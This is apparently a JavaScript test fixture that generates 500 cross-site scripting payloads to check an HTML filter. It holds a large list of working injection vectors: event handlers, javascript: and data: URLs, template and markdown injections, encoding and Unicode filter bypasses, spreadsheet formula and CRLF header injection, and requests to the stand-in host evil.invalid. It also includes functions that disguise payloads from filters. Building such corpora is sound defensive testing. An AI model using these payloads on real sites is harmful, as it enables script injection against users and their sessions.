// Five hundred ways to make a page do something it should not, of the places of a page where text may stand and of the disguises a filter overlooks.
// Each calls `__xss(number)` if it runs: the number says which.

const COUNT = 500;

/** What runs, where it may stand. `{c}` is the call. */
const FORMS = [
  // Elements that run by themselves.
  '<script>{c}</script>', '<script src="data:text/javascript,{c}"></script>', '<script type=module>{c}</script>', '<img src=x onerror={c}>', '<img src="x" onerror="{c}">', '<img/src=x/onerror={c}>', '<svg onload={c}>', '<svg/onload={c}>',
  '<svg><script>{c}</script></svg>', '<svg><animate onbegin={c} attributeName=x dur=1s>', '<svg><set onbegin={c} attributeName=x>', '<svg><a xlink:href="javascript:{c}"><text y=20>点</text></a></svg>', '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror={c}/></svg>#x">',
  '<svg><foreignObject><iframe srcdoc="<script>parent.{c}</script>"></foreignObject></svg>', '<math><mtext></form><form><mglyph><style></math><img src=x onerror={c}>', '<math href="javascript:{c}">点</math>', '<body onload={c}>', '<iframe src="javascript:parent.{c}"></iframe>',
  '<iframe srcdoc="<script>parent.{c}</script>"></iframe>', '<iframe onload={c}></iframe>', '<object data="javascript:{c}"></object>', '<object data="data:text/html,<script>{c}</script>"></object>', '<embed src="javascript:{c}">', '<video><source onerror={c}></video>',
  '<video src=x onerror={c}></video>', '<audio src=x onerror={c}></audio>', '<details open ontoggle={c}>', '<input autofocus onfocus={c}>', '<select autofocus onfocus={c}>', '<textarea autofocus onfocus={c}>', '<button autofocus onfocus={c}>点</button>', '<marquee onstart={c}>跑</marquee>',
  '<a href="javascript:{c}">点这里</a>', '<a href="data:text/html,<script>{c}</script>">点这里</a>', '<form action="javascript:{c}"><input type=submit>', '<form><button formaction="javascript:{c}">点</button></form>', '<isindex action="javascript:{c}" type=image>',
  '<meta http-equiv="refresh" content="0;url=javascript:{c}">', '<meta http-equiv="refresh" content="0;url=https://evil.invalid/{n}">', '<base href="https://evil.invalid/{n}/">', '<link rel=stylesheet href="https://evil.invalid/{n}.css">', '<link rel=import href="data:text/html,<script>{c}</script>">', '<style>@import "https://evil.invalid/{n}.css";</style>',
  '<style>*{background:url(https://evil.invalid/{n})}</style>', '<div style="background:url(https://evil.invalid/{n})">', '<div style="width:expression({c})">', '<img src="https://evil.invalid/{n}.png">', '<img srcset="https://evil.invalid/{n}.png 1x">', '<p style="animation-name:x" onanimationstart={c}>', '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart={c}>',
  '<template><script>{c}</script></template>', '<noscript><p title="</noscript><img src=x onerror={c}>">', '<table background="javascript:{c}">', '<frameset onload={c}>', '<portal src="javascript:{c}">', '<dialog open onfocus={c} tabindex=0 autofocus>', '<custom-x tabindex=0 autofocus onfocus={c}>', '<keygen autofocus onfocus={c}>',
  // Out of an attribute, a title, a comment, a script, a style, a textarea.
  '" onmouseover="{c}" autofocus onfocus="{c}" x="', "' onfocus='{c}' autofocus x='", '" autofocus onfocus={c} x=', '"><script>{c}</script>', "'><script>{c}</script>", '"><img src=x onerror={c}>', "'><svg onload={c}>", '></title><script>{c}</script>', '</title><img src=x onerror={c}>', '--><script>{c}</script>', '--!><img src=x onerror={c}>',
  '</script><script>{c}</script>', '</style><script>{c}</script>', '</textarea><script>{c}</script>', '</noscript><script>{c}</script>', '</template><svg onload={c}>', ']]><script>{c}</script>', '<![CDATA[<script>{c}</script>]]>', '<!--<img src="--><img src=x onerror={c}//">', '<!DOCTYPE x [<!ENTITY y "<script>{c}</script>">]>&y;', '`><script>{c}</script>', '` onfocus={c} autofocus x=`',
  // Out of a script's or a document's own words.
  "';{c};'", '";{c};"', '`;{c};`', '\\";{c};//', "\\';{c};//", '${{c}}', '\u2028{c}\u2029', '*/{c}/*', '"-{c}-"', "'+{c}+'", '"}};{c};{{"', '</script><!--<script>{c}',
  // Addresses.
  'javascript:{c}', 'JaVaScRiPt:{c}', 'java\tscript:{c}', 'java\nscript:{c}', '\u0001javascript:{c}', 'javascript&colon;{c}', 'javascript://%0a{c}', 'vbscript:{c}', 'data:text/html,<script>{c}</script>', 'data:text/html;base64,{b}', '//evil.invalid/{n}', 'https://evil.invalid/{n}', '/\\evil.invalid/{n}', 'tel:1"><script>{c}</script>',
  // Templates.
  '{{constructor.constructor("{c}")()}}', '{{ {c} }}', '${{c}}', '#{{c}}', '<%= {c} %>', '<?php echo "<script>{c}</script>" ?>', '[[${{c}}]]', '{%{c}%}', '@({c})', '{{"a".constructor.prototype.charAt=[].join;$eval("{c}")}}', '<div ng-app>{{$eval.constructor("{c}")()}}</div>', '<div v-html="{c}">', '<div x-init="{c}">', '<wxs>{c}</wxs>', '<view bindtap="{c}">',
  // Markdown and other marks.
  '[点这里](javascript:{c})', '![x](x"onerror="{c})', '![x](javascript:{c})', '<javascript:{c}>', '[a]: javascript:{c}', '```<script>{c}</script>```', '[url=javascript:{c}]点[/url]', '[img]x" onerror="{c}[/img]',
  // Other alphabets of bytes.
  '+ADw-script+AD4-{c}+ADw-/script+AD4-', '+ADw-img src=x onerror={c}+AD4-', '%3Cscript%3E{c}%3C/script%3E', '%253Cscript%253E{c}%253C/script%253E', '&lt;script&gt;{c}&lt;/script&gt;', '&#60;script&#62;{c}&#60;/script&#62;', '&#x3c;img src=x onerror={c}&#x3e;', '\\u003cscript\\u003e{c}\\u003c/script\\u003e', '\\x3cscript\\x3e{c}\\x3c/script\\x3e',
  '＜script＞{c}＜/script＞', '‹script›{c}‹/script›', '<ſcript>{c}</ſcript>', '<\u200bscript>{c}</script>', '\u202e<script>{c}</script>', '<s\u001fcript>{c}</script>', '\ufeff<script>{c}</script>', '<img src=x on\u200berror={c}>', '<svg\u00a0onload={c}>', '<svg\u000conload={c}>',
  // For a spreadsheet, a contact card, a mail.
  '=HYPERLINK("https://evil.invalid/{n}","点")', '@SUM(1+1)*cmd|" /C calc"!A{n}', '\r\nTEL:19999999999\r\nX-XSS:<script>{c}</script>', 'x\r\nSet-Cookie: x={n}\r\n\r\n<script>{c}</script>',
];

/** How a mark is disguised; the text is what a filter would see. */
const DISGUISES = [
  (text) => text,
  (text) => text.replace(/<(\/?)([a-z]+)/gi, (_, slash, tag) => `<${slash}${[...tag].map((letter, index) => (index % 2 ? letter.toUpperCase() : letter)).join('')}`),
  (text) => text.replace(/ (on\w+)=/g, '/$1 = '),
  (text) => `安全的文字 ${text} 后面的文字`,
  (text) => text.replace(/<([a-z]+)[ >]/gi, (all, tag) => `<${tag}\n${all.endsWith('>') ? '>' : ''}`),
];

/** @returns {{ number: number, text: string }[]} */
export function payloads() {
  const made = new Set();
  const found = [];
  for (const disguise of DISGUISES) {
    for (const form of FORMS) {
      const number = found.length + 1;
      const plain = disguise(form);
      if (made.has(plain) || number > COUNT) continue;
      made.add(plain);
      const call = `__xss(${number})`;
      found.push({ number, text: plain.replaceAll('{c}', call).replaceAll('{n}', String(number)).replaceAll('{b}', Buffer.from(`<script>parent.${call}</script>`).toString('base64')) });
    }
  }
  if (found.length !== COUNT) throw new Error(`${found.length} payloads instead of ${COUNT}`);
  return found;
}
